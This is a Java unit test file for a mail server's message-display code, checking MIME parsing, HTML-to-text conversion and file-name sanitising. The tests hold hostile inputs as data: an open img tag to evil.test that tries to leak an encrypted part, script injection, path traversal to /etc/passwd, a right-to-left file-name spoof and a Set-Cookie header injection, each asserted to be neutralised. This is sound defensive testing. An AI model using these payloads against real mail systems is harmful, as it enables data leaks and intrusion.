package org.sealpost.server.console;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.sealpost.mime.Content;
import org.sealpost.mime.Entity;

class MailContentTest {
  private static Entity mail(String text) throws Exception {
    return Entity.parse(Content.of(text.replace("\n", "\r\n").getBytes(StandardCharsets.UTF_8)));
  }

  private static MailContent content(String text) throws Exception {
    return MailContent.of(mail(text));
  }

  private static List<String> texts(MailContent content) {
    return content.texts().stream().map(it -> it.text().strip()).toList();
  }

  @Test
  void fieldsAreDecodedAndPlain() throws Exception {
    MailContent content =
        content(
            """
            From: =?utf-8?Q?=E6=9E=97=E7=BE=8E?= <mei@example.test>
            Subject: a\u202Eb
            X-Other: not shown

            text
            """);
    assertThat(content.fields())
        .containsExactly(
            new MailContent.Field("opened.field.from", "林美 <mei@example.test>"),
            new MailContent.Field("opened.field.subject", "a b"));
  }

  @Test
  void ofAlternativesThePlainOneIsShownAndWhatIsBesideThemIsAttached() throws Exception {
    MailContent content =
        content(
            """
            Content-Type: multipart/mixed; boundary=m

            --m
            Content-Type: multipart/alternative; boundary=a

            --a
            Content-Type: text/html

            <p>no
            --a
            Content-Type: text/plain

            yes
            --a--
            --m
            Content-Type: application/pdf; name=bill.pdf
            Content-Transfer-Encoding: base64

            JVBERg==
            --m
            Content-Type: text/plain

            footer
            --m--
            """);
    assertThat(texts(content)).containsExactly("yes", "footer");
    assertThat(content.attachments())
        .singleElement()
        .satisfies(
            it -> {
              assertThat(it.name()).isEqualTo("bill.pdf");
              assertThat(it.type()).isEqualTo("application/pdf");
              assertThat(it.part()).isEqualTo(2);
            });
    assertThat(content.cut()).isFalse();
  }

  @Test
  void anAttachmentIsFoundByTheNumberThatItIsShownWith() throws Exception {
    Entity mail =
        mail(
            """
            Content-Type: multipart/mixed; boundary=m

            --m

            text
            --m
            Content-Type: application/octet-stream
            Content-Transfer-Encoding: base64

            aGVsbG8=
            --m--
            """);
    int number = MailContent.of(mail).attachments().getFirst().part();
    try (InputStream in = MailContent.part(mail, number).orElseThrow().decodedBody()) {
      assertThat(new String(in.readAllBytes(), StandardCharsets.UTF_8)).isEqualTo("hello");
    }
    assertThat(MailContent.part(mail, 2)).isEmpty();
    assertThat(MailContent.part(mail, -1)).isEmpty();
  }

  @Test
  void attackOfAnOpenTagAroundAnEncryptedPartTakesNothingOutOfIt() throws Exception {
    MailContent content =
        content(
            """
            Content-Type: multipart/mixed; boundary=m

            --m
            Content-Type: text/html

            <img src="http://evil.test/?
            --m
            Content-Type: text/plain

            the secret
            --m
            Content-Type: text/html

            ">
            --m--
            """);
    assertThat(texts(content)).containsExactly("the secret", "\">");
  }

  @ParameterizedTest
  @CsvSource({
    "'<p>one</p><p>two', 'one\n\ntwo'",
    "'a<br>b', 'a\nb'",
    "'<script>alert(1)</script>x', 'x'",
    "'<style>p{}</style >x', 'x'",
    "'<scr<script>ipt>y', 'ipt>y'",
    "'<!-- <p> -->z', 'z'",
    "'a < b &amp;&lt;b&gt; &#x41;&#66; &unknown; &', 'a < b &<b> AB &unknown; &'",
    "'<a href=\"javascript:1\">word</a>', 'word'",
    "'a   \t b', 'a b'",
    "'<title>no</title>yes', 'yes'",
    "'&#99999999;&#xD800;x', '\uD800x'",
  })
  void htmlIsReadAsTextAlone(String html, String text) {
    assertThat(HtmlText.of(html)).isEqualTo(text);
  }

  @ParameterizedTest
  @CsvSource({"<", "&", "<a", "' '", "</", "<!--", "<script></", "'<p> '"})
  void attackOfHtmlThatIsSlowToReadTakesNoLonger(String piece) {
    String text = HtmlText.of(piece.repeat((1 << 19) / piece.length()));
    assertThat(text.length()).isLessThanOrEqualTo(1 << 19);
  }

  @Test
  void attackOfAHugeTextIsCutAndSaysSo() throws Exception {
    MailContent content = content("\n" + "long line\n".repeat(200_000));
    assertThat(content.texts().getFirst().text()).hasSize(MailContent.LONGEST_TEXT);
    assertThat(content.cut()).isTrue();
  }

  @Test
  void controlsAndMarksThatTurnTheTextAreLeftOut() throws Exception {
    assertThat(texts(content("\na\u0007b\u202Ec\u001B[31md\n"))).containsExactly("abc[31md");
  }

  @ParameterizedTest
  @CsvSource({
    "report.pdf, report.pdf",
    "../../etc/passwd, passwd",
    "'C:\\Windows\\x.exe', x.exe",
    "'..', file",
    "'/', file",
    "'', file",
    ".bashrc, bashrc",
    "'a\u202Efdp.exe', 'a fdp.exe'",
    "'a\"\r\nSet-Cookie: x=1', 'a_ Set-Cookie_ x=1'",
    "對帳單.pdf, 對帳單.pdf",
  })
  void attackOfAFileNameLosesItsTeeth(String name, String safe) {
    assertThat(FileNames.safe(name, "file")).isEqualTo(safe);
  }

  @Test
  void aLongNameKeepsItsEnding() {
    assertThat(FileNames.safe("a".repeat(500) + ".pdf", "file")).hasSize(120).endsWith("a.pdf");
  }

  @ParameterizedTest
  @CsvSource({
    "a b.pdf, 'attachment; filename=\"a b.pdf\"; filename*=UTF-8''''a%20b.pdf'",
    "單.pdf, 'attachment; filename=\"_.pdf\"; filename*=UTF-8''''%E5%96%AE.pdf'",
  })
  void aFieldForADownloadIsAsciiWhateverTheName(String name, String field) {
    assertThat(FileNames.disposition(name)).isEqualTo(field);
  }
}
